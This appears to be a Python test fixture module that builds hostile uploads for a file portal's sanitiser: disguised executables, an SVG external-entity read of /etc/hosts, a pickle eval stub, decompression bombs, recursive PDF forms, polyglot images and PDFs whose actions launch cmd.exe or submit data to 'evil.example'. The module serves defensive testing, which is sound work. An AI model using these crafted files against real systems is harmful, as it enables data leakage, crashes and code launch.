"""Files made to break, burn, leak or deceive. All built here, none taken from anywhere.

``CANARY`` stands for what must not come out: a place, a script, another file.
"""

import io
import random
import struct
import zipfile
import zlib
from typing import NamedTuple

from PIL import Image

from portal.files.refusals import RefusalReason
from tests.files.honest import (
    PNG_START,
    chunk,
    encoded,
    header,
    pdf_of,
    sheet,
    simple_pdf,
    stream,
    with_chunks,
    with_segment,
)

CANARY = b"CANARY-5d1f-42.8746N"

R = RefusalReason


class Hostile(NamedTuple):
    """A file and what must become of it: refused for one of the reasons, or (no reasons) made harmless."""

    data: bytes
    reasons: tuple[RefusalReason, ...] = ()
    either: bool = False
    """Whether a harmless picture is as good as a refusal."""


def archive() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as file:
        file.writestr("word/document.xml", CANARY)
    return output.getvalue()


def strangers() -> dict[str, bytes]:
    """What is no photo and no PDF, whatever its name says."""
    picture = sheet(60, 40)
    return {
        "program named passport.jpg": b"MZ\x90\0" + CANARY * 20,
        "linux program": b"\x7fELF\x02\x01\x01" + CANARY,
        "shell script": b"#!/bin/sh\necho " + CANARY,
        "php": b"<?php echo '" + CANARY + b"'; ?>",
        "svg with script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>" + CANARY + b"</script></svg>",
        "svg with entity": b"<?xml version='1.0'?><!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/hosts'>]><svg>&x;</svg>",
        "html": b"<!doctype html><script>" + CANARY + b"</script>",
        "html with pdf inside": b"<html>" + b" " * 80 + simple_pdf(),
        "html before a photo": b"<html>" + encoded(picture, "JPEG"),
        "gif": encoded(picture.convert("P"), "GIF"),
        "gif and script": b"GIF89a/*\0\0" + CANARY + b"*/=1;alert(1)",
        "tiff": encoded(picture, "TIFF"),
        "bmp": encoded(picture, "BMP"),
        "webp": encoded(picture, "WEBP"),
        "ico": encoded(picture, "ICO"),
        "jpeg 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + CANARY,
        "psd": b"8BPS\0\x01" + b"\0" * 40,
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n(" + CANARY + b") print",
        "avif": b"\0\0\0\x1cftypavif\0\0\0\0mif1avifmiaf" + CANARY,
        "film": b"\0\0\0\x18ftypmp42" + CANARY,
        "zip": archive(),
        "word document of old": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + CANARY,
        "rich text": b"{\\rtf1 " + CANARY + b"}",
        "gzip": b"\x1f\x8b\x08\0" + CANARY,
        "pickle": b"\x80\x04c__builtin__\neval\n",
        "virus scanner's test": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        "text": "Паспорт".encode(),
        "text in sixteen bits": "%PDF-1.7 Паспорт".encode("utf-16"),
        "noise": random.Random(7).randbytes(4096),
        "zeros": b"\0" * 4096,
        "two bytes of a photo": b"\xff\xd8",
        "png spoilt by a text transfer": encoded(picture, "PNG").replace(b"\r\n", b"\n"),
        "half a signature": PNG_START[:5],
    }


def leaky_photo() -> bytes:
    """A photo that carries its place, its camera's number and a small copy of itself before it was cut."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010E], exif[0xA431] = 1, CANARY.decode(), CANARY.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (42.0, 52.0, 28.0), 29: CANARY.decode()})
    thumbnail = with_segment(encoded(sheet(60, 40), "JPEG"), 0xFE, CANARY)
    photo = encoded(sheet(), "JPEG", exif=exif, icc_profile=CANARY * 10, comment=CANARY)
    return with_segment(photo, 0xE2, b"thumb\0" + thumbnail)


def endless_scans() -> bytes:
    """A progressive photo whose last scan is repeated thousands of times."""
    photo = encoded(sheet(2000, 2000), "JPEG", progressive=True)
    last = photo.rindex(b"\xff\xda")
    return photo[:-2] + photo[last:-2] * 5000 + photo[-2:]


def frame_size_changed(jpeg: bytes, width: int, height: int) -> bytes:
    frame = jpeg.index(b"\xff\xc0")
    return jpeg[: frame + 5] + struct.pack(">HH", height, width) + jpeg[frame + 9 :]


def hostile_photos() -> dict[str, Hostile]:
    photo = encoded(sheet(), "JPEG")
    big = encoded(Image.effect_noise((800, 600), 80).convert("RGB"), "JPEG")
    tables = photo.index(b"\xff\xc4")
    return {
        "cut in the middle": Hostile(big[: len(big) // 2], (R.DAMAGED,)),
        "cut after the header": Hostile(photo[:30], (R.DAMAGED,)),
        "noise after the start": Hostile(b"\xff\xd8\xff" + random.Random(1).randbytes(5000), (R.DAMAGED,)),
        "one long zero": Hostile(b"\xff\xd8\xff" + b"\0" * 5000, (R.DAMAGED,)),
        "no end": Hostile(photo[:-2], (R.DAMAGED,), either=True),
        "without tables": Hostile(
            photo[:tables] + photo[photo.index(b"\xff\xda") :], (R.DAMAGED,), either=True
        ),
        "four billion pixels": Hostile(frame_size_changed(photo, 65500, 65500), (R.TOO_MANY_PIXELS,)),
        "no width": Hostile(frame_size_changed(photo, 0, 480), (R.DAMAGED,)),
        "no height": Hostile(frame_size_changed(photo, 640, 0), (R.DAMAGED,)),
        "taller than its data": Hostile(frame_size_changed(photo, 640, 9000), (R.DAMAGED,), either=True),
        "forty-nine million pixels": Hostile(
            encoded(Image.new("L", (7000, 7000)), "JPEG"), (R.TOO_MANY_PIXELS,)
        ),
        "endless scans": Hostile(endless_scans(), (R.TAKES_TOO_LONG,)),
        "lossless frame": Hostile(photo.replace(b"\xff\xc0", b"\xff\xc3", 1), (R.DAMAGED,)),
        "arithmetic frame": Hostile(photo.replace(b"\xff\xc0", b"\xff\xc9", 1), (R.DAMAGED,), either=True),
        "place, camera and thumbnail": Hostile(leaky_photo()),
        "script in the metadata": Hostile(with_segment(photo, 0xE1, b"Exif\0\0<?php " + CANARY)),
        "xmp": Hostile(with_segment(photo, 0xE1, b"http://ns.adobe.com/xap/1.0/\0<x>" + CANARY + b"</x>")),
        "press data": Hostile(with_segment(photo, 0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\x14" + CANARY)),
        "unknown orientation": Hostile(encoded(sheet(), "JPEG", exif=b"Exif\0\0" + exif_with(0x0112, 99))),
        "archive behind": Hostile(photo + archive()),
        "html behind": Hostile(photo + b"<script>" + CANARY + b"</script>"),
        "pdf behind": Hostile(photo + simple_pdf(catalogue=b"/X(" + CANARY + b")")),
        "second picture behind": Hostile(photo + leaky_photo()),
        "script in the first segment": Hostile(with_segment(photo, 0xE0, b"*/=1;" + CANARY + b"/*")),
        "pdf in a comment": Hostile(with_segment(photo, 0xFE, simple_pdf() + CANARY)),
    }


def exif_with(tag: int, value: int) -> bytes:
    return b"MM\0*\0\0\0\x08\0\x01" + struct.pack(">HHIHH", tag, 3, 1, value, 0) + b"\0\0\0\0"


def hostile_drawings() -> dict[str, Hostile]:
    drawing = encoded(sheet(), "PNG")
    pixels = drawing.index(b"IDAT")
    hidden = Image.new("RGBA", (200, 200), (255, 0, 0, 0))
    frames = encoded(sheet(), "PNG", save_all=True, append_images=[Image.new("RGB", (640, 480), "black")])
    bomb = zlib.compress(b"A" * 60_000_000, 9)
    return {
        "cut in the middle": Hostile(drawing[: pixels + 200], (R.DAMAGED,)),
        "signature alone": Hostile(PNG_START, (R.DAMAGED,)),
        "no pixels": Hostile(PNG_START + header(10, 10) + chunk(b"IEND", b""), (R.DAMAGED,)),
        "wrong check sum": Hostile(
            drawing[: pixels + 9] + b"\0\0\0\0" + drawing[pixels + 13 :], (R.DAMAGED,)
        ),
        "a hundred and sixty-nine million pixels": Hostile(
            encoded(Image.new("1", (13000, 13000)), "PNG"), (R.TOO_MANY_PIXELS,)
        ),
        "two billion wide": Hostile(
            PNG_START + header(2**31 - 1, 2**31 - 1) + chunk(b"IDAT", zlib.compress(b"\0")),
            (R.TOO_MANY_PIXELS, R.DAMAGED),
        ),
        "no width": Hostile(PNG_START + header(0, 10) + chunk(b"IDAT", b""), (R.DAMAGED,)),
        "unknown colours": Hostile(PNG_START + header(9, 9, 8, 7) + chunk(b"IDAT", b"x"), (R.DAMAGED,)),
        "pixels of another stream": Hostile(
            PNG_START + header(99, 99) + chunk(b"IDAT", CANARY * 9) + chunk(b"IEND", b""), (R.DAMAGED,)
        ),
        "too few pixels": Hostile(
            PNG_START + header(900, 900) + chunk(b"IDAT", zlib.compress(b"\0" * 50)) + chunk(b"IEND", b""),
            (R.DAMAGED,),
        ),
        "far too many pixels": Hostile(
            PNG_START + header(9, 9) + chunk(b"IDAT", bomb) + chunk(b"IEND", b""), (R.DAMAGED,), either=True
        ),
        "text that swells": Hostile(
            with_chunks(drawing, chunk(b"zTXt", b"Comment\0\0" + bomb)), (R.DAMAGED,), either=True
        ),
        "many texts that swell": Hostile(
            with_chunks(drawing, *[chunk(b"zTXt", b"C%d\0\0" % n + bomb[:60000]) for n in range(80)]),
            (R.DAMAGED,),
            either=True,
        ),
        "profile that swells": Hostile(
            with_chunks(drawing, chunk(b"iCCP", b"p\0\0" + bomb)), (R.DAMAGED,), either=True
        ),
        "text": Hostile(with_chunks(drawing, chunk(b"tEXt", b"Comment\0" + CANARY))),
        "international text": Hostile(with_chunks(drawing, chunk(b"iTXt", b"Title\0\0\0\0\0" + CANARY))),
        "metadata": Hostile(with_chunks(drawing, chunk(b"eXIf", b"MM\0*" + CANARY))),
        "private chunk": Hostile(with_chunks(drawing, chunk(b"prVt", CANARY))),
        "profile": Hostile(encoded(sheet(), "PNG", icc_profile=CANARY * 5)),
        "archive behind": Hostile(drawing + archive()),
        "html behind": Hostile(drawing + b"<script>" + CANARY + b"</script>"),
        "hidden second frame": Hostile(frames + CANARY),
        "picture under full transparency": Hostile(encoded(hidden, "PNG")),
        "two headers": Hostile(
            with_chunks(drawing, header(9000, 9000)), (R.DAMAGED, R.TOO_MANY_PIXELS), either=True
        ),
        "palette missing": Hostile(
            PNG_START
            + header(8, 8, 8, 3)
            + chunk(b"IDAT", zlib.compress(b"\0\1\2\3\4\5\6\7\7" * 8))
            + chunk(b"IEND", b""),
            (R.DAMAGED,),
            either=True,
        ),
    }


def script(action: bytes) -> bytes:
    return b"/OpenAction<<%s>>" % action


def laughing_forms(depth: int, times: int) -> bytes:
    """A drawing that calls a drawing ten times, that calls a drawing ten times, and so on."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</XObject<</X 4 0 R>>>>>>",
    ]
    for number in range(4, 4 + depth):
        last = number == 3 + depth
        objects.append(
            stream(
                b"0 0 9 9 re f" if last else b"/X Do " * times,
                b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</X %d 0 R>>>>"
                % (number + 1),
            )
        )
    return pdf_of(objects)


def image_flood() -> bytes:
    """A page with one picture of 30,000 × 30,000 black and white points in a few hundred bytes."""
    points = zlib.compress(zlib.compress(b"\0" * (30_000 * 30_000 // 8), 9), 9)
    picture = stream(
        points,
        b"/Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 1"
        b"/ColorSpace/DeviceGray/Filter[/FlateDecode/FlateDecode]",
    )
    return simple_pdf(
        others=(picture,), page=b"/Resources<</XObject<</I 4 0 R>>>>", drawing=b"300 0 0 400 0 0 cm /I Do"
    )


def hostile_documents() -> dict[str, Hostile]:
    js = b"/S/JavaScript/JS(app.alert\\('%s'\\))" % CANARY
    attachment = stream(CANARY, b"/Type/EmbeddedFile")
    bomb = zlib.compress(b"0 0 9 9 re f " * 2_000_000, 9)
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(%s)/Rect[9 9 99 30]/AA<</K<<%s>>>>>>" % (CANARY, js)
    plain = simple_pdf()
    return {
        "script on opening": Hostile(simple_pdf(catalogue=script(js))),
        "script in the names": Hostile(
            simple_pdf(catalogue=b"/Names<</JavaScript<</Names[(a)<<%s>>]>>>>" % js)
        ),
        "script on the page": Hostile(simple_pdf(page=b"/AA<</O<<%s>>>>" % js)),
        "launches a program": Hostile(simple_pdf(catalogue=script(b"/S/Launch/F(cmd.exe)/P(%s)" % CANARY))),
        "opens a share": Hostile(
            simple_pdf(catalogue=script(b"/S/GoToR/F(\\\\\\\\evil.example\\\\%s)" % CANARY))
        ),
        "opens an address": Hostile(
            simple_pdf(catalogue=script(b"/S/URI/URI(http://evil.example/%s)" % CANARY))
        ),
        "sends a form": Hostile(
            simple_pdf(catalogue=script(b"/S/SubmitForm/F(http://evil.example/%s)" % CANARY))
        ),
        "imports data": Hostile(simple_pdf(catalogue=script(b"/S/ImportData/F(/etc/%s)" % CANARY))),
        "attachment": Hostile(
            simple_pdf(
                catalogue=b"/Names<</EmbeddedFiles<</Names[(a.exe)<</F(a.exe)/EF<</F 4 0 R>>>>]>>>>",
                others=(attachment,),
            )
        ),
        "form with script": Hostile(
            simple_pdf(catalogue=b"/AcroForm<</Fields[4 0 R]>>", others=(field,), page=b"/Annots[4 0 R]")
        ),
        "xfa form": Hostile(
            simple_pdf(catalogue=b"/AcroForm<</Fields[]/XFA 4 0 R>>", others=(stream(b"<xdp>" + CANARY),)),
            (R.DAMAGED,),
            either=True,
        ),
        "rich media": Hostile(
            simple_pdf(
                page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</X(%s)>>>>]" % CANARY
            )
        ),
        "picture from outside": Hostile(
            simple_pdf(
                others=(stream(b"", b"/Subtype/Image/Width 9/Height 9/F(/etc/hosts)/FFilter/DCTDecode"),),
                page=b"/Resources<</XObject<</I 4 0 R>>>>",
                drawing=b"/I Do",
            ),
            (R.DAMAGED,),
            either=True,
        ),
        "title": Hostile(simple_pdf(others=(b"<</Title(%s)>>" % CANARY,), trailer=b"/Info 4 0 R")),
        "locked": Hostile(
            simple_pdf(
                others=(b"<</Filter/Standard/V 1/R 2/P -4/O(%s)/U(%s)>>" % (b"o" * 32, b"u" * 32),),
                trailer=b"/Encrypt 4 0 R/ID[(a)(a)]",
            ),
            (R.ENCRYPTED_PDF,),
        ),
        "thirty-one pages": Hostile(simple_pdf(31), (R.TOO_MANY_PAGES,)),
        "a billion pages": Hostile(
            plain.replace(b"/Count 1>>", b"/Count 999999999>>"), (R.TOO_MANY_PAGES, R.DAMAGED), either=True
        ),
        "pages that are their own parents": Hostile(
            pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"]),
            (R.DAMAGED,),
        ),
        "no pages": Hostile(
            pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]), (R.DAMAGED,)
        ),
        "header alone": Hostile(b"%PDF-1.7\n", (R.DAMAGED,)),
        "cut in the middle": Hostile(plain[: len(plain) // 2], (R.DAMAGED,), either=True),
        "noise": Hostile(b"%PDF-1.7\n" + random.Random(3).randbytes(20000), (R.DAMAGED,)),
        "table in a circle": Hostile(
            plain.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 9"), (R.DAMAGED,), either=True
        ),
        "a kilometre of paper": Hostile(simple_pdf(box=b"0 0 9999999 9999999"), (R.DAMAGED,), either=True),
        "a thread of paper": Hostile(simple_pdf(box=b"0 0 1 14400"), (R.DAMAGED,), either=True),
        "paper turned inside out": Hostile(simple_pdf(box=b"500 500 -500 -500"), (R.DAMAGED,), either=True),
        "paper that is no number": Hostile(simple_pdf(box=b"0 0 NaN Inf"), (R.DAMAGED,), either=True),
        "picture flood": Hostile(image_flood(), (R.DAMAGED, R.MEMORY, R.TAKES_TOO_LONG), either=True),
        "drawing that swells": Hostile(
            pdf_of(
                [
                    b"<</Type/Catalog/Pages 2 0 R>>",
                    b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
                    stream(bomb, b"/Filter/FlateDecode"),
                    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 3 0 R>>",
                ]
            ),
            (R.DAMAGED, R.MEMORY, R.TAKES_TOO_LONG),
            either=True,
        ),
        "a hundred million drawings": Hostile(
            laughing_forms(12, 10), (R.DAMAGED, R.MEMORY, R.TAKES_TOO_LONG), either=True
        ),
        "drawing that draws itself": Hostile(
            simple_pdf(
                others=(stream(b"/X Do", b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>"),),
                page=b"/Resources<</XObject<</X 4 0 R>>>>",
                drawing=b"/X Do",
            )
        ),
        "brackets without end": Hostile(
            simple_pdf(others=(b"[" * 200_000,)), (R.DAMAGED, R.MEMORY), either=True
        ),
        "archive behind": Hostile(plain + archive()),
        "html behind": Hostile(plain + b"<script>" + CANARY + b"</script>"),
        "photo behind": Hostile(plain + leaky_photo()),
    }


def hostile_sizes() -> dict[str, Hostile]:
    return {
        "nothing": Hostile(b"", (R.EMPTY,)),
        "thirty megabytes of photo": Hostile(encoded(sheet(), "JPEG") + b"\0" * 30_000_000, (R.TOO_LARGE,)),
        "thirty megabytes of PDF": Hostile(simple_pdf() + b" " * 30_000_000, (R.TOO_LARGE,)),
    }


def hostile_files() -> dict[str, Hostile]:
    """Every file of this module under a name of its own."""
    groups = {
        "stranger": {name: Hostile(data, (R.NOT_A_PICTURE,)) for name, data in strangers().items()},
        "photo": hostile_photos(),
        "drawing": hostile_drawings(),
        "document": hostile_documents(),
        "size": hostile_sizes(),
    }
    return {f"{group}: {name}": file for group, files in groups.items() for name, file in files.items()}
